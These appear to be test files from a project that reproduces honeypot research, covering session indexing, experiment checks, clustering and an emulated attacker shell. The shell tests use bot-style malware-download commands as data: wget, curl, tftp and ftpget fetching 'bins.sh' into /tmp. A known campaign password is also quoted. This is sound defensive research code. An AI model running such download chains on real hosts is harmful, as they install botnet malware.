        # delivery at the tree level); the rebuild keeps one row each.
        write_jsonl(sessions[5:], tmp_path / "b.jsonl")
        _, rows = rebuild_index(tmp_path)
        assert rows == len(sessions)
        with SqliteStore.open(index_path_for(tmp_path)) as store:
            assert store.count() == len(sessions)


class TestVerifyIndexAudit:
    def test_clean_tree_passes_with_index_finding(self, tmp_path):
        from repro.integrity.verify import audit_tree

        root, _ = make_tree(tmp_path)
        audit = audit_tree(root)
        assert audit.ok and not audit.index_damaged
        kinds = {f.kind for f in audit.findings}
        assert "index" in kinds

    @pytest.mark.parametrize("mode", ("drop-rows", "truncate"))
    def test_verify_exits_2_then_rebuild_exits_0(self, tmp_path, mode):
        import random

        from repro.cli import main

        root, _ = make_tree(tmp_path)
        corrupt_index(index_path_for(root), mode, random.Random(3))
        assert main(["verify", str(root)]) == 2
        assert main(["verify", str(root), "--rebuild-index"]) == 0
        assert main(["verify", str(root)]) == 0

    def test_data_damage_still_exits_1(self, tmp_path):
        from repro.cli import main

        root, _ = make_tree(tmp_path)
        shard = root / "sessions.jsonl"
        shard.write_text(shard.read_text() + "{broken\n")
        assert main(["verify", str(root)]) == 1

    def test_stale_index_content_fails_audit(self, tmp_path):
        from repro.integrity.verify import audit_tree

        root, sessions = make_tree(tmp_path)
        # Replace the index with one built from different data: intact,
        # self-consistent, and lying about this tree.
        export_indexed_tree(records(7), tmp_path / "other")
        (tmp_path / "other" / "index.sqlite").replace(index_path_for(root))
        audit = audit_tree(root)
        assert audit.index_damaged and audit.data_ok

    def test_json_reports_schema_version_and_index_state(self, tmp_path):
        from repro.integrity.verify import AUDIT_SCHEMA_VERSION, audit_tree

        root, _ = make_tree(tmp_path)
        payload = json.loads(audit_tree(root).to_json())
        assert payload["schema_version"] == AUDIT_SCHEMA_VERSION
        assert payload["index_damaged"] is False


class TestQueryCli:
    def test_query_smoke_and_fallback_note(self, tmp_path, capsys):
        from repro.cli import main

        root, sessions = make_tree(tmp_path)
        assert main(["query", str(root)]) == 0
        out = capsys.readouterr().out
        assert f"{len(sessions)} sessions match" in out
        assert "source: index" in out

        index_path_for(root).write_bytes(b"garbage")
        assert main(["query", str(root), "--by", "day", "--ids"]) == 0
        out = capsys.readouterr().out
        assert "source: scan" in out and "--rebuild-index" in out

    def test_query_missing_path(self, tmp_path, capsys):
        from repro.cli import main

        assert main(["query", str(tmp_path / "absent")]) == 2

    def test_query_filters(self, tmp_path, capsys):
        from repro.cli import main

        root, sessions = make_tree(tmp_path, count=6)
        day = "2020-09-13"
        assert main(["query", str(root), "--day", day, "--protocol", "ssh"]) == 0
        out = capsys.readouterr().out
        assert "sessions match" in out and f"day={day}" in out


class TestStoreNeutrality:
    """The store is a pure projection: outputs identical with it on/off."""

    @pytest.mark.parametrize("profile", PROFILES)
    def test_serial_digest_and_accounting_identical(
        self, tmp_path, profile, serial_baselines
    ):
        base = serial_baselines[profile]
        stored = run_simulation(
            short_fault_config(profile), store_dir=tmp_path
        )
        assert stored.database.digest() == base.database.digest()
        assert (
            stored.collector.accounting() == base.collector.accounting()
        )
        # The tree is complete, matches the run, and audits clean under
        # profiles without index corruption; under stress the index may
        # be damaged by schedule, but the scan path still reproduces the
        # dataset exactly.
        store = ResilientArtifactStore(tmp_path)
        assert store.database().digest() == base.database.digest()
        store.close()

    def test_checkpoint_bytes_identical(self, tmp_path):
        config = short_fault_config("paper")
        plain = run_simulation(
            config, checkpoint_path=tmp_path / "a" / "run.ckpt",
            checkpoint_every_days=10,
        )
        stored = run_simulation(
            config, checkpoint_path=tmp_path / "b" / "run.ckpt",
            checkpoint_every_days=10, store_dir=tmp_path / "b" / "artifacts",
        )
        assert plain.database.digest() == stored.database.digest()
        a_generations = [
            p for p in checkpoint_generations(tmp_path / "a" / "run.ckpt")
            if p.exists()
        ]
        b_generations = [
            p for p in checkpoint_generations(tmp_path / "b" / "run.ckpt")
            if p.exists()
        ]
        assert a_generations
        assert [p.name for p in a_generations] == [
            p.name for p in b_generations
        ]
        for a, b in zip(a_generations, b_generations):
            assert a.read_bytes() == b.read_bytes()

    def test_export_meta_pins_run_identity(self, tmp_path):
        config = short_fault_config("none")
        result = run_simulation(config, store_dir=tmp_path)
        with SqliteStore.open(index_path_for(tmp_path)) as store:
            meta = store.meta()
        assert meta.config_fingerprint == config_fingerprint(config)
        assert meta.content_digest == result.database.digest()
        # And the staleness gate accepts exactly this run's identity.
        SqliteStore.open(
            index_path_for(tmp_path),
            expected_fingerprint=config_fingerprint(config),
            expected_digest=result.database.digest(),
        ).close()

    def test_stress_schedule_completes_via_fallback(self, tmp_path):
        # stress sets index_corruption_probability=0.25; force certainty
        # so the test exercises the damaged path regardless of the draw.
        import dataclasses

        config = short_fault_config("stress")
        config = config.replace(
            faults=dataclasses.replace(
                config.faults,
                integrity=dataclasses.replace(
                    config.faults.integrity, index_corruption_probability=1.0
                ),
            )
        )
        result = run_simulation(config, store_dir=tmp_path)
        store = ResilientArtifactStore(tmp_path)
        assert store.database().digest() == result.database.digest()
        store.close()


@pytest.mark.parallel
class TestStoreNeutralityParallel:
    @pytest.mark.parametrize("workers", (2, 4))
    def test_parallel_store_digest_identical(
        self, tmp_path, workers, serial_baselines
    ):
        base = serial_baselines["stress"]
        stored = run_simulation(
            short_fault_config("stress"), workers=workers, store_dir=tmp_path
        )
        assert stored.database.digest() == base.database.digest()
        assert stored.collector.accounting() == base.collector.accounting()
        store = ResilientArtifactStore(tmp_path)
        assert store.database().digest() == base.database.digest()
        store.close()


class TestSessionDatabaseRaceSafety:
    @pytest.mark.parametrize(
        "method", ("ssh_sessions", "command_sessions", "by_month", "by_day")
    )
    def test_concurrent_first_queries_build_once(self, method):
        database = SessionDatabase(records(50))
        barrier = threading.Barrier(8)
        results = []

        def hammer():
            barrier.wait()
            results.append(getattr(database, method)())

        threads = [threading.Thread(target=hammer) for _ in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert len(results) == 8
        # Every caller must see the same built-exactly-once cache object.
        assert all(value is results[0] for value in results)
        assert results[0] == getattr(database, method)()

    def test_database_survives_pickling(self):
        import pickle

        database = SessionDatabase(records(5))
        database.by_day()
        clone = pickle.loads(pickle.dumps(database))
        assert clone.digest() == database.digest()
        assert clone.by_day() == database.by_day()


class TestStoreTelemetry:
    def test_counters_and_spans_recorded(self, tmp_path):
        with telemetry.collecting() as registry:
            export_indexed_tree(records(8), tmp_path)
            with SqliteStore.open(index_path_for(tmp_path)) as store:
                store.count()
        assert registry.counters["store.builds"] == 1
        assert registry.counters["store.build.rows"] == 8
        assert registry.counters["store.opens"] == 2  # build opens once too
        assert registry.counters["store.queries"] >= 1

    def test_rebuild_counts(self, tmp_path):
        root, _ = make_tree(tmp_path)
        with telemetry.collecting() as registry:
            rebuild_index(root)
        assert registry.counters["store.rebuilds"] == 1

    def test_store_metrics_are_merge_only(self):
        assert "store." in telemetry.MERGE_ONLY_PREFIXES
        view = telemetry.comparable_view(
            {"counters": {"store.fallback": 3, "sim.days": 2}, "histograms": {}}
        )
        assert "store.fallback" not in view["counters"]
        assert view["counters"]["sim.days"] == 2


class TestIndexRowSemantics:
    def test_index_rows_match_classifier_and_day(self):
        sessions = records(4)
        rows = index_rows(sessions, source="x.jsonl")
        from repro.analysis.classify import DEFAULT_CLASSIFIER
        from repro.util.timeutils import epoch_date

        for row, session in zip(rows, sessions):
            assert row.day == epoch_date(session.start).isoformat()
            assert row.rule_label == DEFAULT_CLASSIFIER.classify(session)
            assert row.sensor_id == session.honeypot_id

    def test_content_digest_matches_database_digest(self):
        sessions = records(6)
        assert content_digest(sessions) == SessionDatabase(sessions).digest()
