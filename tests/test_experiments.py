"""Every experiment runs and reproduces the paper's qualitative shape."""

from __future__ import annotations


from repro.experiments.base import REGISTRY
from repro.experiments.runner import load_all_experiments, render_report

EXPECTED_IDS = {
    "table_stats", "fig01", "fig02", "fig03a", "fig03b", "fig04a", "fig04b",
    "fig05", "fig06", "fig07", "fig08a", "fig08b", "fig09", "fig10",
    "fig11", "fig12", "fig13", "fig14", "fig15", "fig16", "fig17", "table1",
    "ext_stateful", "ext_ablation_tokenizer", "ext_ablation_ruleorder",
    "ext_ablation_detection", "ext_baseline_clustering",
    "ext_sensor_coverage", "ext_validation",
}


class TestRegistry:
    def test_all_figures_registered(self):
        load_all_experiments()
        assert set(REGISTRY) == EXPECTED_IDS

    def test_results_complete(self, results):
        assert set(results) == EXPECTED_IDS
        for result in results.values():
            assert result.rows, f"{result.experiment_id} produced no rows"
            assert result.notes

    def test_render_report(self, results):
        report = render_report(results)
        for eid in EXPECTED_IDS:
            assert eid in report


def note_text(results, eid: str) -> str:
    return " ".join(results[eid].notes)


class TestShapes:
    """Paper-vs-measured qualitative checks at default (tiny) scale."""

    def test_stats_scouting_largest(self, results):
        rows = {row[0]: row[1] for row in results["table_stats"].rows}
        assert rows["Scouting"] == max(
            rows[k] for k in ("Scanning", "Scouting", "Intrusion", "Command Execution")
        )
        assert rows["Command Execution"] > rows["Scanning"]

    def test_fig01_non_state_grows_into_2023(self, results):
        assert "grew" in note_text(results, "fig01")
        grew = float(note_text(results, "fig01").split("grew ")[1].split("x")[0])
        assert grew > 1.2

    def test_fig02_echo_ok_dominates(self, results):
        text = note_text(results, "fig02")
        share = float(text.split("echo_OK share of non-state sessions: ")[1].split("%")[0])
        assert share > 70.0

    def test_fig03a_mdrfckr_dominates(self, results):
        text = note_text(results, "fig03a")
        share = float(text.split("mdrfckr share: ")[1].split("%")[0])
        assert share > 75.0

    def test_fig03b_bbox_unlabelled_ends_mid_2022(self, results):
        text = note_text(results, "fig03b")
        last = text.split("last active month: ")[1].split(" ")[0]
        assert last <= "2022-08"

    def test_fig04_missing_exceeds_exists(self, results):
        exists = int(
            note_text(results, "fig04a").split("file-exists sessions: ")[1].split(" ")[0]
        )
        missing = int(
            note_text(results, "fig04b").split("file-missing sessions: ")[1].split(" ")[0]
        )
        assert missing > exists * 1.5

    def test_fig04a_collapse_after_2022(self, results):
        text = note_text(results, "fig04a")
        early = float(text.split("collapse: ")[1].split("/mo")[0])
        late = float(text.split("→ ")[1].split("/mo")[0])
        assert late < early

    def test_fig05_clusters_sorted(self, results):
        assert "monotone: True" in note_text(results, "fig05")

    def test_fig05_selects_multiple_clusters(self, results):
        assert len(results["fig05"].rows) >= 4

    def test_fig06_top_clusters_labelled(self, results):
        text = note_text(results, "fig06")
        assert "C-" in text

    def test_fig07_majority_differs(self, results):
        text = note_text(results, "fig07")
        differs = int(text.split("differs from client IP in ")[1].split("%")[0])
        assert 60 <= differs <= 95  # paper: 80%

    def test_fig08a_young_ases(self, results):
        text = note_text(results, "fig08a")
        young = int(text.split("younger than 1 year: ")[1].split("%")[0])
        under5 = int(text.split("younger than 5 years: ")[1].split("%")[0])
        assert young >= 20  # paper: >35%
        assert under5 >= 55  # paper: >70%
        assert under5 >= young

    def test_fig08b_small_ases(self, results):
        text = note_text(results, "fig08b")
        single = int(text.split("single-/24 ASes: ")[1].split("%")[0])
        assert 8 <= single <= 40  # paper: ~20%

    def test_fig09_single_day_majority_class(self, results):
        text = note_text(results, "fig09")
        one_day = int(text.split("active a single day (paper")[0].split(": ")[-1].rstrip("% of IPs "))
        assert one_day >= 40

    def test_fig10_campaign_password_on_top(self, results):
        text = note_text(results, "fig10")
        assert "3245gs5662d34" in text
        assert "no commands: " in text

    def test_fig11_phil_silent(self, results):
        text = note_text(results, "fig11")
        silent = int(text.split("no commands after login: ")[1].split("%")[0])
        assert silent >= 80  # paper: >90%

    def test_fig12_c2_ips_found(self, results):
        text = note_text(results, "fig12")
        assert "C2 IPs named by cleanup scripts: 8" in text

    def test_fig12_event_recall(self, results):
        text = note_text(results, "fig12")
        matched = int(text.split("events matched: ")[1].split("/")[0])
        assert matched >= 3  # detection is scale-limited; paper: 8/8

    def test_fig13_variant_timing_and_overlap(self, results):
        text = note_text(results, "fig13")
        assert "variant first month: 2022-12" in text
        overlap = float(text.split("the campaign: ")[1].split("%")[0])
        assert overlap > 70.0  # paper: 99.4% (pool quantisation at tiny scale)

    def test_fig14_scout_block_separates(self, results):
        text = note_text(results, "fig14")
        within = float(text.split("scout block: ")[1].split(";")[0])
        across = float(text.split("scout-vs-rest: ")[1].split(" ")[0])
        assert across > within

    def test_fig15_four_clients_unique_cookies(self, results):
        text = note_text(results, "fig15")
        assert "from 4 client IPs" in text
        assert "every cookie unique: True" in text

    def test_fig16_missing_more_unique(self, results):
        text = note_text(results, "fig16")
        missing = int(text.split("file-missing ")[1].split(" ")[0])
        exists = int(text.split("file-exists ")[1].split(" ")[0])
        assert missing > exists

    def test_fig17_hosting_majority(self, results):
        text = note_text(results, "fig17")
        hosting = int(text.split("Hosting share overall: ")[1].split("%")[0])
        assert hosting >= 60

    def test_table1_counts_and_coverage(self, results):
        text = note_text(results, "table1")
        assert "58 regex + 1 fallback = 59" in text
        coverage = float(text.split("coverage: ")[1].split("%")[0])
        assert coverage > 97.0  # paper: >99%
