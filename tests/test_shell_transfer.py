"""Transfer commands: the artifact-capture path."""

from __future__ import annotations

import pytest

from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.engine import ShellEngine
from repro.util.hashing import sha256_hex

PAYLOAD = b"\x7fELF-payload"


@pytest.fixture
def ctx():
    context = ShellContext(
        remote_files={
            "http://10.9.8.7/bins.sh": PAYLOAD,
            "tftp://10.9.8.7/bins.sh": PAYLOAD,
            "ftp://10.9.8.7/bins.sh": PAYLOAD,
        }
    )
    return context


@pytest.fixture
def engine(ctx):
    return ShellEngine(ctx)


def transfer_events(ctx):
    return [e for e in ctx.file_events if e.source == "transfer"]


class TestWget:
    def test_success_creates_artifact(self, ctx, engine):
        engine.run_line("cd /tmp; wget http://10.9.8.7/bins.sh")
        (event,) = transfer_events(ctx)
        assert event.path == "/tmp/bins.sh"
        assert event.sha256 == sha256_hex(PAYLOAD)

    def test_output_document_flag(self, ctx, engine):
        engine.run_line("wget http://10.9.8.7/bins.sh -O /tmp/out")
        assert ctx.fs.read("/tmp/out") == PAYLOAD

    def test_unreachable_no_artifact(self, ctx, engine):
        record = engine.run_line("wget http://99.99.99.99/x")
        assert transfer_events(ctx) == []
        assert "http://99.99.99.99/x" in ctx.uris

    def test_bare_host_gets_scheme(self, ctx, engine):
        engine.run_line("wget 99.99.99.99/f")
        assert ctx.uris == ["http://99.99.99.99/f"]

    def test_missing_url(self, engine):
        assert "missing URL" in engine.run_line("wget -q").output


class TestCurl:
    def test_output_flag(self, ctx, engine):
        engine.run_line("curl -o /tmp/c http://10.9.8.7/bins.sh")
        assert ctx.fs.read("/tmp/c") == PAYLOAD

    def test_remote_name_flag(self, ctx, engine):
        engine.run_line("cd /tmp; curl -O http://10.9.8.7/bins.sh")
        assert ctx.fs.read("/tmp/bins.sh") == PAYLOAD

    def test_stdout_mode_no_event(self, ctx, engine):
        record = engine.run_line("curl http://10.9.8.7/bins.sh")
        assert transfer_events(ctx) == []
        assert "ELF" in record.output

    def test_failure_message(self, ctx, engine):
        record = engine.run_line("curl https://site.invalid/ -s -X GET --max-redirs 5")
        assert "Failed to connect" in record.output
        assert "https://site.invalid/" in ctx.uris

    def test_value_flags_not_urls(self, ctx, engine):
        engine.run_line(
            "curl https://t.invalid/ -X POST --cookie 'sid=abc' --referer 'https://r.invalid/'"
        )
        # only the positional URL is fetched (referer value is not)
        assert ctx.uris.count("https://t.invalid/") == 1


class TestTftpFtpget:
    def test_tftp_get(self, ctx, engine):
        engine.run_line("cd /tmp; tftp -g -r bins.sh 10.9.8.7")
        assert ctx.fs.read("/tmp/bins.sh") == PAYLOAD

    def test_tftp_timeout(self, ctx, engine):
        record = engine.run_line("tftp -g -r nothere 10.9.8.7")
        assert "timeout" in record.output

    def test_ftpget(self, ctx, engine):
        engine.run_line(
            "cd /tmp; ftpget -u anonymous -p anonymous 10.9.8.7 bins.sh bins.sh"
        )
        assert ctx.fs.read("/tmp/bins.sh") == PAYLOAD
        assert "ftp://10.9.8.7/bins.sh" in ctx.uris

    def test_ftpget_usage_error(self, engine):
        assert "usage" in engine.run_line("ftpget 10.9.8.7").output

    def test_ftp_records_host(self, ctx, engine):
        engine.run_line("ftp 10.9.8.7")
        assert "ftp://10.9.8.7/" in ctx.uris


class TestFallbackChains:
    def test_wget_success_skips_curl(self, ctx, engine):
        engine.run_line(
            "wget http://10.9.8.7/bins.sh -O /tmp/f || curl -o /tmp/f http://10.9.8.7/bins.sh"
        )
        assert len(ctx.uris) == 1

    def test_wget_failure_falls_back(self, ctx, engine):
        engine.run_line(
            "wget http://99.1.1.1/f -O /tmp/f || curl -o /tmp/f http://10.9.8.7/bins.sh"
        )
        assert ctx.fs.read("/tmp/f") == PAYLOAD
        assert len(ctx.uris) == 2
