"""Distance matrices, K-medoids, model selection, cluster labelling."""

from __future__ import annotations

import numpy as np
import pytest

from repro.analysis.clusterselect import cluster_with_selection, elbow_point, select_k
from repro.analysis.distance import distance_matrix
from repro.analysis.kmedoids import kmedoids, silhouette_score


def two_group_matrix(n_per_group: int = 6, gap: float = 1.0) -> np.ndarray:
    """Block matrix: two tight groups far apart."""
    n = 2 * n_per_group
    matrix = np.full((n, n), gap)
    for start in (0, n_per_group):
        block = slice(start, start + n_per_group)
        matrix[block, block] = 0.05
    np.fill_diagonal(matrix, 0.0)
    return matrix


class TestDistanceMatrix:
    def test_symmetric_zero_diagonal(self):
        tokens = [["a", "b"], ["a", "c"], ["x"]]
        matrix = distance_matrix(tokens)
        assert np.allclose(matrix, matrix.T)
        assert np.allclose(np.diag(matrix), 0.0)

    def test_matches_brute_force(self):
        from repro.analysis.dld import normalized_dld

        tokens = [["a", "b"], ["a", "c"], ["a", "b"], ["x", "y", "z"]]
        matrix = distance_matrix(tokens)
        for i in range(4):
            for j in range(4):
                assert matrix[i, j] == pytest.approx(
                    normalized_dld(tokens[i], tokens[j])
                )

    def test_duplicates_have_zero_distance(self):
        matrix = distance_matrix([["a"], ["a"], ["b"]])
        assert matrix[0, 1] == 0.0
        assert matrix[0, 2] > 0


class TestTokenizerCacheKeying:
    """Regression: the distance-layer caches are per-tokenizer-config.

    ``clear_distance_caches`` is not called between configs, so before
    the fingerprint keying a cache warmed by one tokenizer config could
    serve another (the normalization ablation runs both over the same
    sessions in one process)."""

    @staticmethod
    def _session_with_ip():
        from repro.honeypot.session import CommandRecord
        from tests.conftest import make_record

        session = make_record(0.0, session_id="cache-key-test")
        session.commands.append(
            CommandRecord(raw="wget http://203.0.113.9/x.sh", known=True)
        )
        return session

    def test_two_configs_get_independent_token_caches(self):
        from repro.analysis.distance import clear_distance_caches, session_tokens
        from repro.analysis.tokenizer import DEFAULT_TOKENIZER, RAW_TOKENIZER

        clear_distance_caches()
        session = self._session_with_ip()
        # warm the cache under the normalizing config first — before the
        # fingerprint keying, the raw call below got these tokens back
        normalized = session_tokens([session], tokenizer=DEFAULT_TOKENIZER)[0]
        raw = session_tokens([session], tokenizer=RAW_TOKENIZER)[0]
        assert "<url>" in normalized
        assert "<url>" not in raw
        assert normalized != raw
        # and the warm entries survive, independently, for both configs
        assert session_tokens([session], tokenizer=DEFAULT_TOKENIZER)[0] == (
            normalized
        )
        assert session_tokens([session], tokenizer=RAW_TOKENIZER)[0] == raw

    def test_pair_cache_entries_are_per_fingerprint(self):
        from repro.analysis.distance import (
            _cached_pair_distance,
            clear_distance_caches,
            pair_distance,
        )
        from repro.analysis.tokenizer import DEFAULT_TOKENIZER, RAW_TOKENIZER

        clear_distance_caches()
        a, b = ("wget", "<url>"), ("wget", "203.0.113.9")
        pair_distance(a, b, DEFAULT_TOKENIZER.fingerprint)
        warm = _cached_pair_distance.cache_info()
        pair_distance(a, b, DEFAULT_TOKENIZER.fingerprint)
        hit = _cached_pair_distance.cache_info()
        assert hit.hits == warm.hits + 1
        pair_distance(a, b, RAW_TOKENIZER.fingerprint)
        other = _cached_pair_distance.cache_info()
        assert other.misses == hit.misses + 1  # distinct entry, no hit

    def test_fingerprint_covers_the_knobs(self):
        from repro.analysis.tokenizer import DEFAULT_TOKENIZER, RAW_TOKENIZER, TokenizerConfig

        assert DEFAULT_TOKENIZER.fingerprint != RAW_TOKENIZER.fingerprint
        assert TokenizerConfig(normalize=True).fingerprint == (
            DEFAULT_TOKENIZER.fingerprint
        )


class TestKMedoids:
    def test_separates_two_groups(self):
        matrix = two_group_matrix()
        result = kmedoids(matrix, 2, seed=0)
        labels = result.labels
        assert len(set(labels[:6])) == 1
        assert len(set(labels[6:])) == 1
        assert labels[0] != labels[6]

    def test_inertia_decreases_with_k(self):
        matrix = two_group_matrix()
        inertia_1 = kmedoids(matrix, 1, seed=0).inertia
        inertia_2 = kmedoids(matrix, 2, seed=0).inertia
        assert inertia_2 < inertia_1

    def test_k_equals_n(self):
        matrix = two_group_matrix(3)
        result = kmedoids(matrix, 6, seed=0)
        assert result.inertia == pytest.approx(0.0)

    def test_invalid_k(self):
        matrix = two_group_matrix(2)
        with pytest.raises(ValueError):
            kmedoids(matrix, 0)
        with pytest.raises(ValueError):
            kmedoids(matrix, 10)

    def test_non_square_rejected(self):
        with pytest.raises(ValueError):
            kmedoids(np.zeros((2, 3)), 1)

    def test_members(self):
        matrix = two_group_matrix()
        result = kmedoids(matrix, 2, seed=0)
        sizes = sorted(len(result.members(c)) for c in range(2))
        assert sizes == [6, 6]

    def test_deterministic(self):
        matrix = two_group_matrix()
        a = kmedoids(matrix, 2, seed=3)
        b = kmedoids(matrix, 2, seed=3)
        assert np.array_equal(a.labels, b.labels)


class TestSilhouette:
    def test_high_for_separated_groups(self):
        matrix = two_group_matrix()
        result = kmedoids(matrix, 2, seed=0)
        assert silhouette_score(matrix, result.labels) > 0.8

    def test_single_cluster_zero(self):
        matrix = two_group_matrix()
        assert silhouette_score(matrix, np.zeros(12, dtype=int)) == 0.0

    def test_bad_clustering_scores_lower(self):
        matrix = two_group_matrix()
        good = kmedoids(matrix, 2, seed=0).labels
        bad = np.array([0, 1] * 6)
        assert silhouette_score(matrix, bad) < silhouette_score(matrix, good)


class TestSelection:
    def test_elbow_point_on_knee_curve(self):
        candidates = [1, 2, 3, 4, 5, 6]
        inertias = [100, 20, 15, 12, 10, 9]  # knee at 2
        assert elbow_point(candidates, inertias) in (2, 3)

    def test_select_k_two_groups(self):
        matrix = two_group_matrix(8)
        selection = select_k(matrix, candidates=[2, 3, 4, 5], seed=0)
        assert selection.silhouette_k == 2
        assert selection.chosen_k in (2, 3)

    def test_cluster_with_selection_returns_consistent(self):
        matrix = two_group_matrix(8)
        result, selection = cluster_with_selection(matrix, seed=0)
        assert result.k == selection.chosen_k

    def test_small_matrix(self):
        matrix = two_group_matrix(2)
        selection = select_k(matrix, seed=0)
        assert 2 <= selection.chosen_k < 4


class TestClusterLabelling:
    def test_profiles_ranked_by_tokens(self, dataset):
        clustering = dataset.clustering()
        avg = [p.avg_tokens for p in clustering.profiles]
        assert avg == sorted(avg)
        assert clustering.profiles[0].rank == 1

    def test_labels_contain_rank(self, dataset):
        clustering = dataset.clustering()
        for profile in clustering.profiles:
            assert profile.label.startswith(f"C-{profile.rank}")

    def test_all_sessions_assigned(self, dataset):
        clustering = dataset.clustering()
        total = sum(p.size for p in clustering.profiles)
        assert total == len(clustering.sessions)

    def test_family_labels_from_known_families(self, dataset):
        known = {
            "Mirai", "Gafgyt", "Dofloo", "CoinMiner", "XorDDoS", "Malicious",
        }
        for profile in dataset.clustering().profiles:
            assert set(profile.families) <= known

    def test_sorted_matrix_shape(self, dataset):
        from repro.analysis.clusterlabel import sorted_distance_matrix

        clustering = dataset.clustering()
        ordered = sorted_distance_matrix(
            clustering.matrix, clustering.result, clustering.profiles
        )
        assert ordered.shape == clustering.matrix.shape
