"""Every example script runs end to end (subprocess smoke tests)."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path


EXAMPLES = Path(__file__).resolve().parent.parent / "examples"


def run_example(name: str, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, str(EXAMPLES / name), *args],
        capture_output=True,
        text=True,
        timeout=300,
    )


class TestExamples:
    def test_quickstart(self):
        result = run_example("quickstart.py", "--scale", "1e-5")
        assert result.returncode == 0, result.stderr
        assert "Dataset statistics" in result.stdout
        assert "echo_OK" in result.stdout

    def test_honeypot_shell_demo(self):
        result = run_example("honeypot_shell_demo.py")
        assert result.returncode == 0, result.stderr
        assert "file missing" in result.stdout
        assert "ACCEPTED" in result.stdout

    def test_custom_bot(self):
        result = run_example("custom_bot.py")
        assert result.returncode == 0, result.stderr
        assert "consistency_prober" not in result.stderr
        assert "gen_echo" in result.stdout

    def test_mdrfckr_case_study(self):
        result = run_example("mdrfckr_case_study.py", "--scale", "2e-5")
        assert result.returncode == 0, result.stderr
        assert "mdrfckr sessions:" in result.stdout
        assert "C2 IPs" in result.stdout

    def test_storage_infrastructure(self):
        result = run_example("storage_infrastructure.py", "--scale", "2e-5")
        assert result.returncode == 0, result.stderr
        assert "storage-AS census" in result.stdout
        assert "activity-day recall" in result.stdout

    def test_bot_timeline(self):
        result = run_example("bot_timeline.py", "--min-volume", "1000000")
        assert result.returncode == 0, result.stderr
        assert "scout_bruteforce" in result.stdout
        assert "total sessions" in result.stdout

    def test_stateful_honeypot(self):
        result = run_example("stateful_honeypot.py")
        assert result.returncode == 0, result.stderr
        assert "HONEYPOT" in result.stdout
        assert "exposed in 0/25" in result.stdout
