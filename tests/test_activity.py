"""Activity models."""

from __future__ import annotations

from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.attackers.activity import (
    Campaign,
    ConstantRate,
    LinearTrend,
    MonthlyRate,
    RampUp,
    SumRate,
    Suppressed,
    Wave,
    total_rate,
)

_dates = st.dates(min_value=date(2021, 1, 1), max_value=date(2025, 1, 1))


class TestConstantRate:
    def test_inside_window(self):
        model = ConstantRate(10, date(2022, 1, 1), date(2022, 12, 31))
        assert model.rate(date(2022, 6, 1)) == 10

    def test_outside_window(self):
        model = ConstantRate(10, date(2022, 1, 1), date(2022, 12, 31))
        assert model.rate(date(2021, 12, 31)) == 0
        assert model.rate(date(2023, 1, 1)) == 0

    def test_unbounded(self):
        assert ConstantRate(5).rate(date(1999, 1, 1)) == 5


class TestMonthlyRate:
    def test_lookup(self):
        model = MonthlyRate({"2022-03": 7.0}, default=1.0)
        assert model.rate(date(2022, 3, 15)) == 7.0
        assert model.rate(date(2022, 4, 15)) == 1.0


class TestLinearTrend:
    def test_endpoints(self):
        model = LinearTrend(date(2022, 1, 1), date(2022, 1, 11), 0, 100)
        assert model.rate(date(2022, 1, 1)) == 0
        assert model.rate(date(2022, 1, 11)) == 100
        assert model.rate(date(2022, 1, 6)) == pytest.approx(50)

    def test_outside_zero(self):
        model = LinearTrend(date(2022, 1, 1), date(2022, 2, 1), 1, 2)
        assert model.rate(date(2021, 12, 31)) == 0


class TestWave:
    def test_peak_at_center(self):
        wave = Wave(date(2022, 6, 1), 10, 100)
        assert wave.rate(date(2022, 6, 1)) == 100
        assert wave.rate(date(2022, 6, 11)) < 100

    def test_symmetric(self):
        wave = Wave(date(2022, 6, 1), 10, 100)
        before = wave.rate(date(2022, 5, 22))
        after = wave.rate(date(2022, 6, 11))
        assert before == pytest.approx(after)


class TestCampaign:
    def test_abrupt_edges(self):
        campaign = Campaign(date(2022, 1, 10), date(2022, 2, 10), 50)
        assert campaign.rate(date(2022, 1, 9)) == 0
        assert campaign.rate(date(2022, 1, 10)) == 50
        assert campaign.rate(date(2022, 2, 10)) == 50
        assert campaign.rate(date(2022, 2, 11)) == 0

    def test_ramp(self):
        campaign = Campaign(date(2022, 1, 1), date(2022, 2, 1), 100, ramp_days=4)
        assert campaign.rate(date(2022, 1, 1)) < 100
        assert campaign.rate(date(2022, 1, 10)) == 100


class TestComposition:
    def test_sum(self):
        model = ConstantRate(1) + ConstantRate(2)
        assert model.rate(date(2022, 1, 1)) == 3

    def test_suppressed_floor(self):
        base = ConstantRate(1000)
        model = Suppressed(base, [(date(2022, 3, 1), date(2022, 3, 5))], 0.01)
        assert model.rate(date(2022, 3, 3)) == pytest.approx(10)
        assert model.rate(date(2022, 4, 1)) == 1000
        assert model.in_window(date(2022, 3, 5))
        assert not model.in_window(date(2022, 3, 6))

    def test_rampup(self):
        model = RampUp(ConstantRate(100), date(2022, 1, 1), ramp_days=10)
        assert model.rate(date(2021, 12, 1)) == 0
        assert model.rate(date(2022, 1, 1)) < 20
        assert model.rate(date(2022, 2, 1)) == 100

    def test_total_rate_integrates(self):
        model = ConstantRate(2, date(2022, 1, 1), date(2022, 1, 10))
        assert total_rate(model, date(2022, 1, 1), date(2022, 1, 10)) == 20

    @given(_dates)
    @settings(max_examples=60)
    def test_rates_never_negative(self, day):
        models = [
            ConstantRate(5),
            Wave(date(2022, 6, 1), 20, 50),
            Campaign(date(2022, 1, 1), date(2023, 1, 1), 10, ramp_days=3),
            LinearTrend(date(2022, 1, 1), date(2023, 1, 1), 1, 9),
            Suppressed(ConstantRate(7), [(date(2022, 2, 1), date(2022, 2, 9))]),
            RampUp(ConstantRate(3), date(2022, 1, 1)),
            SumRate([ConstantRate(1), Wave(date(2022, 3, 1), 5, 2)]),
        ]
        for model in models:
            assert model.rate(day) >= 0
