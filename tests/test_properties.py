"""Deeper property-based tests on core data structures.

Includes a brute-force reference implementation of the restricted
Damerau-Levenshtein distance to cross-check the optimized DP, invariant
checks for K-medoids outputs, and a stateful model test of the fake
filesystem.
"""

from __future__ import annotations

from functools import lru_cache

import numpy as np
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from hypothesis.stateful import RuleBasedStateMachine, invariant, rule

from repro.analysis.distance import clear_distance_caches, distance_matrix
from repro.analysis.dld import damerau_levenshtein, dld_bounds, normalized_dld
